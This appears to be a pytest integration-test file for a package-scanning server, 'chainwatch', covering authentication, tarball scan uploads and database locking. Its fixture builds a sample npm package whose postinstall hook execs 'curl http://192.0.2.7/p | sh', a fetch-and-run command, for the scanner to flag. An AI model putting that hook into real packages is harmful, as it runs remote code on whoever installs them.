"""The real ``chainwatch serve`` process on loopback, used over HTTP (no registry needed:
scans are uploaded tarballs judged alone)."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.unit.test_serve_api import targz

TOKEN = "integration-token-0123456789"
INERT = {"package/package.json": b'{"name":"inert-served","version":"1.0.0",'
                                 b'"scripts":{"postinstall":"node x.js"}}',
         "package/x.js": b"require('child_process').exec('curl http://192.0.2.7/p | sh')"}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class Served:
    url: str
    db: str
    proc: subprocess.Popen[bytes]
    log: Path


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    token_file = tmp_path / "token"
    token_file.write_text(TOKEN + "\n")
    token_file.chmod(0o600)
    port = free_port()
    db = f"sqlite:///{tmp_path / 'serve.db'}"
    env = {**os.environ, "CHAINWATCH_DATA_DIR": str(tmp_path), "CHAINWATCH_CACHE_DIR":
           str(tmp_path), "NPM_CONFIG_USERCONFIG": str(tmp_path / "npmrc")}
    env.pop("CHAINWATCH_TOKEN", None)
    log = tmp_path / "serve.log"
    with open(log, "wb") as stderr:
        proc = subprocess.Popen(
            [sys.executable, "-m", "chainwatch", "serve", "--listen", f"127.0.0.1:{port}",
             "--db", db, "--token-file", str(token_file)],
            env=env, stdout=subprocess.DEVNULL, stderr=stderr)
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(150):
            try:
                if httpx.get(f"{url}/healthz", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            if proc.poll() is not None:
                raise AssertionError(f"serve exited: {log.read_text()}")
            time.sleep(0.1)
        else:
            raise AssertionError(f"serve did not start: {log.read_text()}")
        yield Served(url, db, proc, log)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)


def scan_upload(client: httpx.Client) -> dict[str, Any]:
    r = client.post("/api/v1/scans?against=none", content=targz(INERT),
                    headers={"Content-Type": "application/gzip"})
    assert r.status_code == 202, r.text
    ident = r.json()["id"]
    deadline = time.time() + 120
    while time.time() < deadline:
        job: dict[str, Any] = client.get(f"/api/v1/scans/{ident}").json()
        if job["status"] in ("done", "failed"):
            return job
        time.sleep(0.2)
    raise AssertionError("the scan did not finish")


def test_the_real_server_answers_and_stops_on_ctrl_c(served: Served) -> None:
    assert httpx.get(f"{served.url}/api/v1/verdicts").status_code == 401
    with httpx.Client(base_url=served.url, headers={"Authorization": f"Bearer {TOKEN}"},
                      timeout=30) as client:
        job = scan_upload(client)
        assert job["status"] == "done", job
        assert job["document"]["package"] == "inert-served"
        listed = client.get("/api/v1/verdicts", params={"package": "inert-served"}).json()
        assert [v["key"] for v in listed["items"]] == [job["verdict_key"]]
        doc = client.get(f"/api/v1/verdicts/{job['verdict_key']}")
        assert doc.status_code == 200 and doc.json()["verdict"] == job["document"]["verdict"]
        r = client.post("/api/v1/scans", json={"target": "/etc/passwd"})
        assert r.status_code == 422 and set(r.json()) == {"error"}
        headers = client.get("/healthz").headers
        assert "default-src 'self'" in headers["content-security-policy"]
        assert "server" not in headers
    served.proc.send_signal(signal.SIGINT)
    assert served.proc.wait(10) in (0, 130)
    assert "Traceback" not in served.log.read_text()


WRITER = textwrap.dedent("""
    import sys, time
    from sqlalchemy import insert
    from chainwatch.db import connect
    from chainwatch.watch.state import alerts
    engine = connect(sys.argv[1])
    for round in range(2):
        with engine.begin() as conn:  # holds SQLite's write lock for 6 s, as a slow batch would
            conn.execute(insert(alerts).values(id=f"w{round}", kind="release",
                                               created_at=time.time(), payload="{}"))
            print("locked", flush=True)
            time.sleep(6)
        time.sleep(0.3)
    print("done", flush=True)
""")


def test_a_scan_while_the_watcher_writes_the_same_database(served: Served) -> None:
    writer = subprocess.Popen([sys.executable, "-c", WRITER, served.db],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert writer.stdout is not None and writer.stdout.readline().strip() == "locked"
        with httpx.Client(base_url=served.url, headers={"Authorization": f"Bearer {TOKEN}"},
                          timeout=60) as client:
            job = scan_upload(client)  # its verdict is written while the lock is held
            assert job["status"] == "done", job
            for path in ("/api/v1/verdicts", "/api/v1/alerts", "/api/v1/environments",
                         "/api/v1/decisions", "/api/v1/incidents"):
                r = client.get(path)
                assert r.status_code == 200, (path, r.text)
        assert writer.wait(30) == 0
        with httpx.Client(base_url=served.url, headers={"Authorization": f"Bearer {TOKEN}"},
                          timeout=60) as client:
            assert {a["id"] for a in client.get("/api/v1/alerts").json()["items"]} == {"w0", "w1"}
    finally:
        if writer.poll() is None:
            writer.kill()
    assert "locked" not in served.log.read_text()
